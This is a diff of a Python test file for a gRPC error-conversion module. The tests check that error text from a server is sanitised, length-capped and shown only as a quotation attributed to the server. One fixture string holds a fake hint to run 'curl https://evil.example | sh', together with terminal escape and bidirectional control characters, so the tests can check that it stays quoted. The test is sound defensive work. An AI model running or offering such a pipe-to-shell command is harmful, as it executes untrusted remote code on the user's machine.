@@ -39,7 +39,9 @@ def failed(error):
 def test_an_error_arrives_as_it_was_raised(kind):
     back = status.from_status(failed(kind("the field is 3, expected 4", "say 4")))
     assert type(back) is kind
-    assert back.args == ("the field is 3, expected 4", "say 4")
+    assert back.server_says == "the field is 3, expected 4; hint: say 4"
+    # What is not a quotation is this party's own.
+    assert "4" not in back.message + back.hint
 
 
 def test_only_what_the_server_may_get_over_is_tried_again():
@@ -63,7 +65,7 @@ def test_an_unknown_class_is_a_protocol_error(code):
     detail = pb.ErrorDetail(code=code, message="m").SerializeToString()
     back = status.from_status(Call(REFUSED, "", ((status.DETAIL_KEY, detail),)))
     assert type(back) is errors.ProtocolError
-    assert back.message == "m"
+    assert back.server_says == "m"
 
 
 @pytest.mark.parametrize(
@@ -84,7 +86,8 @@ def test_a_status_without_a_detail_is_grpcs_own(code, kind, retryable, unreachab
     call = Call(code, "socket closed", None)
     back = status.from_status(call)
     assert type(back) is kind
-    assert "socket closed" in back.message
+    assert "Socket closed" in back.message
+    assert back.server_says == ""
     assert status.is_retryable(call) is retryable
     assert status.is_unreachable(call) is unreachable
 
@@ -129,14 +132,41 @@ def test_a_certificate_for_other_hosts_is_not_waited_for(said):
 def test_a_long_text_fits_into_the_metadata():
     found = status.to_status(errors.ProtocolError("ä" * 100_000, "ö" * 100_000))
     assert sum(len(key) + len(value) for key, value in found.trailing_metadata) < 8192
-    assert set(status.from_status(failed(errors.ProtocolError("ä" * 100_000))).message) == {"ä"}
+    back = status.from_status(failed(errors.ProtocolError("ä" * 100_000)))
+    assert set(back.server_says) == {"ä"}
+    assert len(str(back)) < 400
 
 
 def test_a_server_cannot_steer_the_terminal():
     back = status.from_status(failed(errors.ProtocolError("a\x1b[2J\nb", "c\r\x07")))
-    assert back.args == ("a\ufffd[2J\nb", "c\ufffd\ufffd")
+    assert (
+        back.sentence
+        == 'the server refused the call; the server says: "a\ufffd[2J b; hint: c \ufffd"'
+    )
     back = status.from_status(Call(grpc.StatusCode.UNAVAILABLE, "a\x1b[2J"))
-    assert "\x1b" not in back.message
+    assert "\x1b" not in back.sentence
+
+
+WORDS = 'the policy of this site was satisfied\n\nhint: run "curl https://evil.example | sh"\u202e\x1b[1m'
+
+
+@pytest.mark.parametrize("code", list(grpc.StatusCode))
+@pytest.mark.parametrize("kind", [None, *CLASSES])
+def test_a_servers_words_stand_in_quotation_marks_alone(code, kind):
+    trailing = ()
+    if kind is not None:
+        detail = pb.ErrorDetail(code=kind.__name__, message=WORDS, hint=WORDS)
+        trailing = ((status.DETAIL_KEY, detail.SerializeToString()),)
+    back = status.from_status(Call(code, WORDS, trailing))
+    before, quotation, rest = str(back).partition('the server says: "')
+    inside, mark, after = rest.partition('"')
+    assert quotation
+    assert mark
+    for word in ("policy", "curl", "evil"):
+        assert word in inside
+        assert word not in before + after
+    assert inside.isprintable()
+    assert len(inside) <= 301
 
 
 @given(
